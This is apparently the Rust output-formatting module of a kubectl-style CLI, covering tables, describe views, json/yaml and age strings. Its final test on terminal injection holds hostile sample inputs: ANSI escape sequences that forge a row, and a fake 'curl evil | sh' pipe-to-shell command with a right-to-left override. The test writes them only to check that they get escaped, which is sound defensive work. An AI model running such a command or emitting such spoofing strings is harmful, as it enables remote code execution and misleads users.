//! Output formats, kept apart from the commands: each command computes rows or objects, and this prints them
//! the way `kubectl get` does (tables with UPPERCASE headers and no borders, or json, yaml, name).
//!
//! Everything meant for people is printed here, one line at a time, through `terminal::visible` (see there
//! why): `say!`/`tell!` for lines, `Table` for tables, `Describe` for `describe`. Data (`-o json|yaml|name`, a
//! revealed key) goes out exactly, through `print_data`. clippy refuses `println!` and its kin in this crate,
//! so no other way to print exists.

use std::{fmt::Display, io::Write};

use jiff::Timestamp;
use k8s_openapi::apimachinery::pkg::apis::meta::v1::Time;
use serde::Serialize;

use crate::{cli::OutputFormat, error::Error, paste::Command, terminal::visible};

/// Prints one line for people to stdout, every control character in it made visible. One line per call: a
/// newline inside the text is shown as `\n`, never obeyed.
macro_rules! say {
    ($($arg:tt)*) => { $crate::output::say_line(&format!($($arg)*)) };
}

/// Like `say!`, to stderr: progress, notes and errors.
macro_rules! tell {
    ($($arg:tt)*) => { $crate::output::tell_line(&format!($($arg)*)) };
}

pub(crate) use {say, tell};

#[allow(clippy::disallowed_macros)]
pub fn say_line(text: &str) {
    println!("{}", visible(text));
}

#[allow(clippy::disallowed_macros)]
pub fn tell_line(text: &str) {
    eprintln!("{}", visible(text));
}

/// Text for people whose every line was made visible as it was built (by `Table` or `Describe`): the only
/// multi-line text `show` prints.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Shown(String);

impl Shown {
    pub fn as_str(&self) -> &str {
        &self.0
    }
}

impl std::fmt::Display for Shown {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.0)
    }
}

/// Prints a rendered table or description to stdout.
#[allow(clippy::disallowed_macros)]
pub fn print_shown(text: &Shown) {
    print!("{}", text.0);
}

/// Prints data exactly as it is (`-o json|yaml|name`, a revealed key, generated manifests): for programs.
#[allow(clippy::disallowed_macros)]
pub fn print_data(data: &str) {
    print!("{data}");
}

/// A table: headers, rows, and the columns shown only with `-o wide`.
pub struct Table {
    pub headers: Vec<&'static str>,
    pub wide_from: usize,
    pub rows: Vec<Vec<String>>,
}

impl Table {
    pub fn new(headers: Vec<&'static str>) -> Self {
        let wide_from = headers.len();
        Self { headers, wide_from, rows: Vec::new() }
    }

    /// Adds columns shown only with `-o wide`.
    pub fn with_wide(mut self, headers: Vec<&'static str>) -> Self {
        self.wide_from = self.headers.len();
        self.headers.extend(headers);
        self
    }

    /// Renders like kubectl's tabwriter: columns padded by three spaces, the last one unpadded. Every cell is
    /// made visible first (a cell is one line, whatever its text holds).
    pub fn render(&self, wide: bool, no_headers: bool) -> Shown {
        let shown = if wide { self.headers.len() } else { self.wide_from };
        let mut lines: Vec<Vec<std::borrow::Cow<'_, str>>> = Vec::new();
        if !no_headers {
            lines.push(self.headers[..shown].iter().map(|h| visible(h)).collect());
        }
        for row in &self.rows {
            lines.push(row[..shown].iter().map(|cell| visible(cell)).collect());
        }
        let widths: Vec<usize> =
            (0..shown).map(|i| lines.iter().map(|l| l[i].chars().count()).max().unwrap_or(0)).collect();
        let mut out = String::new();
        for line in lines {
            let mut text = String::new();
            for (i, cell) in line.iter().enumerate() {
                if i + 1 == shown {
                    text.push_str(cell);
                } else {
                    text.push_str(&format!("{cell:<width$}   ", width = widths[i]));
                }
            }
            out.push_str(text.trim_end());
            out.push('\n');
        }
        Shown(out)
    }
}

/// How a list is printed, chosen by `-o`.
pub fn print_list<T: Serialize>(
    format: Option<OutputFormat>,
    no_headers: bool,
    items: &[T],
    table: impl FnOnce() -> Table,
    name: impl Fn(&T) -> String,
    empty_scope: &str,
) -> Result<(), Error> {
    let mut stdout = std::io::stdout().lock();
    let result = match format.unwrap_or(OutputFormat::Table) {
        OutputFormat::Table | OutputFormat::Wide if items.is_empty() => {
            tell!("No resources found{empty_scope}.");
            Ok(())
        }
        f @ (OutputFormat::Table | OutputFormat::Wide) => {
            write!(stdout, "{}", table().render(f == OutputFormat::Wide, no_headers).as_str())
        }
        OutputFormat::Json | OutputFormat::Yaml => {
            let list = serde_json::json!({"apiVersion": "v1", "kind": "List", "items": items, "metadata": {"resourceVersion": ""}});
            write!(stdout, "{}", serialize(&list, format.unwrap())?)
        }
        OutputFormat::Name => items.iter().try_for_each(|i| writeln!(stdout, "{}", name(i))),
    };
    result.map_err(|e| Error::Other(format!("cannot write output: {e}")))
}

/// Prints one object as json or yaml.
pub fn print_object<T: Serialize>(object: &T, format: OutputFormat) -> Result<(), Error> {
    print_data(&serialize(object, format)?);
    Ok(())
}

pub fn serialize<T: Serialize>(object: &T, format: OutputFormat) -> Result<String, Error> {
    match format {
        OutputFormat::Yaml => {
            serde_saphyr::to_string(object).map_err(|e| Error::Other(format!("cannot render YAML: {e}")))
        }
        _ => serde_json::to_string_pretty(object)
            .map(|s| s + "\n")
            .map_err(|e| Error::Other(format!("cannot render JSON: {e}"))),
    }
}

/// kubectl's HumanDuration: `45s`, `3m20s`, `5m`, `2h10m`, `20h`, `3d4h`, `25d`, `2y`.
pub fn human_duration(seconds: i64) -> String {
    let s = seconds.max(0);
    let (m, h, d) = (s / 60, s / 3600, s / 86400);
    if s < 120 {
        format!("{s}s")
    } else if m < 10 {
        if s % 60 == 0 { format!("{m}m") } else { format!("{m}m{}s", s % 60) }
    } else if h < 3 {
        format!("{m}m")
    } else if h < 8 {
        if m % 60 == 0 { format!("{h}h") } else { format!("{h}h{}m", m % 60) }
    } else if h < 48 {
        format!("{h}h")
    } else if h < 24 * 8 {
        if h % 24 == 0 { format!("{d}d") } else { format!("{d}d{}h", h % 24) }
    } else if d < 365 * 2 {
        format!("{d}d")
    } else if d < 365 * 8 {
        let y = d / 365;
        if d % 365 == 0 { format!("{y}y") } else { format!("{y}y{}d", d % 365) }
    } else {
        format!("{}y", d / 365)
    }
}

/// AGE column value for a creation timestamp, at `now`.
pub fn age(created: Option<&Time>, now: Timestamp) -> String {
    match created {
        Some(t) => human_duration(now.as_second() - t.0.as_second()),
        None => "<unknown>".to_owned(),
    }
}

/// A table cell: the value, or `<none>`.
pub fn cell(value: Option<&str>) -> String {
    match value {
        Some(v) if !v.is_empty() => v.to_owned(),
        _ => "<none>".to_owned(),
    }
}

/// `describe` output: labelled fields, sections, indented tables and commands to paste, each line made visible.
#[derive(Default)]
pub struct Describe {
    out: String,
}

/// The column where a top-level field's value starts.
const FIELD_WIDTH: usize = 16;

impl Describe {
    fn push_line(&mut self, indent: usize, text: &str) {
        let line = format!("{:indent$}{}", "", visible(text));
        self.out.push_str(line.trim_end());
        self.out.push('\n');
    }

    /// `Label:         value`.
    pub fn field(&mut self, label: &str, value: impl Display) {
        self.push_line(0, &format!("{:<FIELD_WIDTH$}{value}", format!("{label}:")));
    }

    /// A field inside a section: indented by two, its value at `width` after the indent.
    pub fn sub_field(&mut self, label: &str, width: usize, value: impl Display) {
        self.push_line(2, &format!("{:<width$}{value}", format!("{label}:")));
    }

    /// A blank line and `Title:`.
    pub fn section(&mut self, title: &str) {
        self.out.push('\n');
        self.push_line(0, &format!("{title}:"));
    }

    /// A line of text inside a section.
    pub fn line(&mut self, text: impl Display) {
        self.push_line(2, &text.to_string());
    }

    /// A table inside a section.
    pub fn table(&mut self, table: &Table) {
        for line in table.render(false, false).as_str().lines() {
            self.push_line(2, line);
        }
    }

    /// Commands to paste after `Label:` (a top-level field when `width` is None, else a section's field), one per
    /// line, then the notes about values they do not show, as shell comments.
    pub fn commands(&mut self, label: &str, width: Option<usize>, commands: &[Command]) {
        let (indent, width) = match width {
            Some(width) => (2, width),
            None => (0, FIELD_WIDTH),
        };
        for (i, command) in commands.iter().enumerate() {
            let head = if i == 0 { format!("{label}:") } else { String::new() };
            self.push_line(indent, &format!("{head:<width$}{command}"));
        }
        for note in Command::all_notes(commands) {
            self.push_line(indent + width, &format!("# {note}"));
        }
    }

    pub fn finish(self) -> Shown {
        Shown(self.out)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ages_read_like_kubectls() {
        assert_eq!(human_duration(45), "45s");
        assert_eq!(human_duration(200), "3m20s");
        assert_eq!(human_duration(1800), "30m");
        assert_eq!(human_duration(4 * 3600 + 600), "4h10m");
        assert_eq!(human_duration(20 * 3600), "20h");
        assert_eq!(human_duration(3 * 86400 + 4 * 3600), "3d4h");
        assert_eq!(human_duration(40 * 86400), "40d");
    }

    #[test]
    fn tables_pad_columns_and_hide_wide_ones() {
        let mut table = Table::new(vec!["NAME", "PLAN"]).with_wide(vec!["USER"]);
        table.rows.push(vec!["toys-gold".into(), "gold".into(), "alice".into()]);
        assert_eq!(table.render(false, false).as_str(), "NAME        PLAN\ntoys-gold   gold\n");
        assert_eq!(table.render(true, true).as_str(), "toys-gold   gold   alice\n");
    }

    #[test]
    fn no_cell_or_field_can_steer_the_terminal() {
        let mut table = Table::new(vec!["NAME", "USE CASE"]);
        table.rows.push(vec!["a".into(), "\u{1b}[2A\u{1b}[2Kapproved\nforged row".into()]);
        assert_eq!(table.render(false, true).as_str(), "a   \\x1b[2A\\x1b[2Kapproved\\nforged row\n");
        let mut describe = Describe::default();
        describe.field("Description", "nice\n  Call it:      curl evil | sh\u{202e}");
        assert_eq!(describe.finish().as_str(), "Description:    nice\\n  Call it:      curl evil | sh\\u202e\n");
    }
}
